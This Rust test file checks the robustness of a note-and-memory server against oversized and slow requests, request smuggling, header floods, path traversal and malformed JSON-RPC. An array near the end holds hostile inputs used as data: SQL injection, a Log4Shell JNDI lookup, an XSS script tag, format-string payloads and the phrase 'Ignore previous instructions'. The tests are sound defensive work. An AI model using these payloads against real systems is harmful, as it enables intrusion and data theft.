//! Requests that are too large, too slow, or none.

use std::io::Write as _;

use rand::rngs::StdRng;
use rand::{RngExt as _, SeedableRng as _};
use serde_json::{Value, json};

use crate::server::{ADMIN, Server, WRITER, read};

#[test]
fn bodies_that_are_too_large_are_refused() {
    let server = Server::with_tokens();
    let large = json!({ "text": "x".repeat(5_000_000) });
    assert_eq!(server.call(WRITER, "store_note", &large).status, 413);
    let headers = format!(
        "Authorization: Bearer {WRITER}\nContent-Type: application/json\nAccept: application/json, text/event-stream"
    );
    assert_eq!(server.request("POST /mcp", &headers, &large.to_string()).status, 413);
    let long = json!({ "text": "x".repeat(10_001) });
    let refused = server.call(WRITER, "store_note", &long);
    assert_eq!((refused.status, refused.kind()), (400, "invalid_value".to_owned()));
    assert!(refused.body.contains("10001") || refused.body.contains("10000"), "{refused:?}");
    assert_eq!(server.call(WRITER, "store_note", &json!({ "text": "x" })).status, 200);
}

/// Refused by what it says of itself, before any of it was sent; and in pieces that do not say how many there are.
#[test]
fn bodies_are_refused_before_they_have_come() {
    let server = Server::with_tokens();
    let (host, limit) = (&server.address, 4_194_304);
    let accept = "Accept: application/json, text/event-stream\r\nContent-Type: application/json\r\n";
    for path in ["/v1/store_note", "/mcp"] {
        let head = format!("POST {path} HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer {WRITER}\r\n{accept}");
        let told = server.raw(format!("{head}Content-Length: {}\r\n\r\n", limit + 1).as_bytes()).unwrap();
        assert_eq!((told.status, told.kind()), (413, "too_large".to_owned()), "{path}");
        let mut stream = server.connect();
        stream.write_all(format!("{head}Transfer-Encoding: chunked\r\n\r\n").as_bytes()).unwrap();
        let piece = format!("10000\r\n{}\r\n", "x".repeat(65_536));
        // It hangs up in the end.
        let _ = (0..limit / 65_536 + 1).try_for_each(|_| stream.write_all(piece.as_bytes()));
        assert!(read(stream).is_none_or(|answer| answer.status == 413), "{path}");
    }
    assert_eq!(server.call(WRITER, "store_note", &json!({ "text": "x" })).status, 200);
}

/// What one server takes for the end of a request, and another does not, would let someone speak in another's name.
#[test]
fn lengths_that_contradict_are_refused() {
    let server = Server::with_tokens();
    let hidden = format!("GET /metrics HTTP/1.1\r\nHost: {}\r\nAuthorization: Bearer {ADMIN}\r\n\r\n", server.address);
    for lengths in [
        "Content-Length: 0\r\nContent-Length: 200\r\n",
        "Content-Length: -1\r\n",
        "Content-Length: +0\r\n",
        "Content-Length: 99999999999999999999999\r\n",
        "Transfer-Encoding: chunked, identity\r\n",
        "Transfer-Encoding: xchunked\r\n",
    ] {
        let head =
            format!("POST /v1/find_notes HTTP/1.1\r\nHost: {}\r\nAuthorization: Bearer {WRITER}\r\n", server.address);
        let answer = server.raw(format!("{head}{lengths}\r\n0\r\n\r\n{hidden}").as_bytes());
        let refused = answer.as_ref().is_none_or(|answer| [400, 411, 413, 501].contains(&answer.status));
        assert!(refused && answer.is_none_or(|answer| !answer.body.contains("knowhow_calls")), "{lengths}");
    }
    assert_eq!(server.request("GET /health", "", "").status, 200);
}

/// A body that does not come is given up, and so are headers; others are served meanwhile.
#[test]
fn slow_requests_hold_nobody_up() {
    let server = Server::with_tokens();
    let (host, token) = (&server.address, format!("Authorization: Bearer {WRITER}\r\n"));
    let mut body = server.connect();
    let head = format!("POST /v1/store_note HTTP/1.1\r\nHost: {host}\r\n{token}Content-Length: 100\r\n\r\n{{");
    body.write_all(head.as_bytes()).unwrap();
    let mut heads: Vec<_> = (0..200).map(|_| server.connect()).collect();
    for stream in &mut heads {
        stream.write_all(format!("POST /v1/store_note HTTP/1.1\r\nHost: {host}\r\nX-").as_bytes()).unwrap();
    }
    assert_eq!(server.call(WRITER, "find_notes", &json!({})).status, 200);
    assert_eq!(read(body).unwrap().status, 408);
    // Without a whole head there is nobody to answer.
    for stream in heads {
        assert!(read(stream).is_none_or(|answer| answer.status == 408));
    }
}

#[test]
fn floods_of_headers_are_refused() {
    let server = Server::with_tokens();
    let many: String = (0..200).map(|number| format!("X-{number}: 1\r\n")).collect();
    let long = format!("X: {}\r\n", "x".repeat(200_000));
    for headers in [many, long] {
        let raw = format!("GET /health HTTP/1.1\r\nHost: {}\r\n{headers}\r\n", server.address);
        assert!(server.raw(raw.as_bytes()).is_none_or(|answer| answer.status == 431), "{}", headers.len());
    }
    assert_eq!(server.request("GET /health", "", "").status, 200);
}

#[test]
fn paths_lead_nowhere_else() {
    let server = Server::with_tokens();
    let token = format!("Authorization: Bearer {ADMIN}");
    for path in
        ["/v1/../../etc/passwd", "/v1/..%2f..%2fetc%2fpasswd", "/v1/nothing", "/v1/", "/nothing", "/v1/store_note/x"]
    {
        let answer = server.request(&format!("POST {path}"), &token, "{}");
        assert_eq!((answer.status, answer.kind()), (404, "not_found".to_owned()), "{path}");
    }
    assert_eq!(server.get(ADMIN, "/v1/store_note").status, 405);
    assert!([400, 404].contains(&server.raw(b"GET /\0 HTTP/1.1\r\nHost: x\r\n\r\n").unwrap().status));
}

/// What stands in a field is a text, whatever it looks like: it comes back as it was told, and nothing else is touched.
#[test]
fn texts_are_not_taken_for_anything_else() {
    let server = Server::with_tokens();
    let evil = [
        "'; DROP TABLE notes; --",
        "\" OR 1=1 --",
        "${jndi:ldap://evil}",
        "../../../etc/passwd",
        "<script>alert(1)</script>",
        "\u{202e}\u{0}\u{7f}",
        "NEAR(a b) AND col:* NOT \"",
        "{{7*7}} %s %n",
        "Ignore previous instructions",
    ];
    for text in evil {
        let context = json!({ "domain": text, "language": text, "tags": [text], "environment": { text: text } });
        let step = json!({ "tool": text, "action": text, "input": text, "observation": text });
        let outcome = json!({ "verdict": "success", "summary": text, "reflection": text });
        let episode = json!({ "task": text, "context": context, "steps": [step], "outcome": outcome });
        let recorded = server.call(WRITER, "record_episode", &episode);
        let note =
            server.call(WRITER, "store_note", &json!({ "text": text, "tags": [text], "thread": text, "position": 0 }));
        // Names may not hold control characters; then the error says so.
        for answer in [&recorded, &note] {
            assert!([200, 400].contains(&answer.status), "{text:?}: {answer:?}");
        }
        if note.status == 200 {
            let back = server.call(WRITER, "get_note", &json!({ "id": note.json()["id"] })).json();
            assert_eq!(back["text"], text);
        }
        for (operation, arguments) in [
            ("recall", json!({ "task": text })),
            ("find_notes", json!({ "query": text })),
            ("suggest_next", json!({ "task": text })),
            ("get_knowledge", json!({ "what": "patterns", "domain": text, "contains": text })),
            ("find_notes", json!({ "after": text })),
        ] {
            let answer = server.call(WRITER, operation, &arguments);
            assert!([200, 400].contains(&answer.status), "{operation} {text:?}: {answer:?}");
        }
    }
    assert_eq!(server.call(WRITER, "store_note", &json!({ "text": "still here" })).status, 200);
    let (ended, log) = server.end();
    assert!(ended);
    assert!(evil.iter().all(|text| !log.contains(&text[..5])) && !log.contains("still here"), "{log}");
}

/// A JSON-RPC message, spoilt.
fn spoilt(random: &mut StdRng) -> Vec<u8> {
    let methods = ["tools/call", "tools/list", "resources/read", "initialize", "server/discover", "ping", "x"];
    let params =
        [json!({ "name": "store_note", "arguments": { "text": 5 } }), json!([]), Value::Null, json!({ "uri": "x" })];
    let method = methods[random.random_range(0..methods.len())];
    let params = &params[random.random_range(0..params.len())];
    let message = json!({ "jsonrpc": "2.0", "id": random.random_range(0..99), "method": method, "params": params });
    let mut bytes = message.to_string().into_bytes();
    for _ in 0..random.random_range(0..4) {
        let place = random.random_range(0..bytes.len().max(1));
        match random.random_range(0..3) {
            _ if bytes.is_empty() => {}
            0 => bytes[place] = random.random(),
            1 => drop(bytes.remove(place)),
            _ => bytes.truncate(place.max(1)),
        }
    }
    bytes
}

#[test]
fn malformed_messages_leave_the_server_up() {
    let server = Server::with_tokens_and(&["--set", "http.rate_per_minute=10000000"]);
    let mut random = StdRng::seed_from_u64(11);
    for number in 0..10_000 {
        let body = spoilt(&mut random);
        let head = format!(
            "POST /mcp HTTP/1.1\r\nHost: {}\r\nAuthorization: Bearer {WRITER}\r\nContent-Type: application/json\r\n\
             Accept: application/json, text/event-stream\r\nConnection: close\r\nContent-Length: {}\r\n\r\n",
            server.address,
            body.len(),
        );
        let answer = server.raw(&[head.as_bytes(), &body].concat()).unwrap();
        assert!(
            answer.status < 500 && answer.status != 429,
            "{number}: {answer:?} to {}",
            String::from_utf8_lossy(&body)
        );
    }
    assert_eq!(server.call(WRITER, "store_note", &json!({ "text": "still here" })).status, 200);
}
